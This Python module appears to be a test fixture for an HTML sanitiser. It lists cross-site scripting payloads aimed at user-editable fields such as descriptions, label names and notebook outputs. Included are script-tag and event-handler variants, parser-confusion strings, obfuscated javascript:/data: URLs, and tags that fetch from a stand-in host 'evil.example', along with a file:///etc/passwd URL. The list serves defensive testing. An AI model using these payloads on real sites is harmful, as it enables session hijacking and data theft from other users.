"""What an attacker may write into a study's description, a label's name or a notebook's output."""

TARGET = "https://evil.example/x"
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
          "onbegin", "onstart", "onresize", "onbeforeunload", "onpageshow", "onscroll", "onwheel", "onended")  # fmt: skip
TAGS = ("img", "svg", "body", "video", "details", "marquee")
SCRIPTS = (
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script src=https://evil.example/x></script>", "<script/hit>hit()</script>",
    "<script\n>hit()</script\n>", "<<script>hit()//<</script>", "<scr<script>ipt>hit()</scr</script>ipt>", "<script>hit()",
    "<svg><script>hit()</script></svg>", "<math><mtext><script>hit()</script></mtext></math>",
    "<svg><script xlink:href=https://evil.example/x></script></svg>", "<noscript><p title='</noscript><script>hit()</script>'>",
    "<template><script>hit()</script></template>", "<style><script>hit()</script></style>", "<title><script>hit()</script></title>",
    "<textarea><script>hit()</script></textarea>", "<xmp><script>hit()</script></xmp>", "<plaintext><script>hit()</script>",
    "<!--><script>hit()</script>-->", "<!-- --!><script>hit()</script>", "<![CDATA[<script>hit()</script>]]>",
    "<?xml ><script>hit()</script>?>", "</pre><script>hit()</script>", "</div></main><script>hit()</script>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<table><td><script>hit()</script></table>", "<select><script>hit()</script></select>", "<frameset onload=hit()>",
)  # fmt: skip
URLS = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", " javascript:hit()", "\x01javascript:hit()",
    "&#106;avascript:hit()", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()", "javascript&colon;hit()", "vbscript:hit()",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>", TARGET, "//evil.example/x", "\\\\evil.example\\x", "file:///etc/passwd", "blob:x",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
)  # fmt: skip
FETCHES = (
    f"<link rel=stylesheet href={TARGET}>", f"<style>@import '{TARGET}';</style>", f"<div style='background:url({TARGET})'>x</div>",
    f"<img srcset='{TARGET} 1x'>", f"<object data={TARGET}></object>", f"<embed src={TARGET}>", f"<video poster={TARGET}></video>",
    f"<audio src={TARGET} autoplay></audio>", f"<source src={TARGET}>", f"<track src={TARGET}>", f"<base href={TARGET}>",
    f"<meta http-equiv=refresh content='0;url={TARGET}'>", f"<input type=image src={TARGET}>", f"<body background={TARGET}>",
    f"<table background={TARGET}><tr><td>x</table>", f"<svg><image href={TARGET}></svg>", f"<svg><use href='{TARGET}#a'></svg>",
    f"<a ping={TARGET} href=#x>x</a>", f"<img src=x lowsrc={TARGET}>", f"<link rel=prefetch href={TARGET}>", f"<frame src={TARGET}>",
    f"<iframe srcdoc='<script>hit()</script><img src={TARGET}>'></iframe>", f"![x]({TARGET})", f"[x]({TARGET})", "[x](javascript:hit())",
    f"<{TARGET}>", "<p class='x onclick=hit()'>x</p>", "<p id=__proto__ name=cookie>x</p>",
)  # fmt: skip
PAYLOADS = (
    *SCRIPTS,
    *(f"<{tag} src=x {event}=hit()>" for tag in TAGS for event in EVENTS),
    *(f'<{tag}/src="x"/{event}="hit()"/>' for tag in TAGS[:2] for event in EVENTS[:2]),
    *(carrier.format(url) for carrier in CARRIERS for url in URLS),
    *FETCHES,
)  # fmt: skip
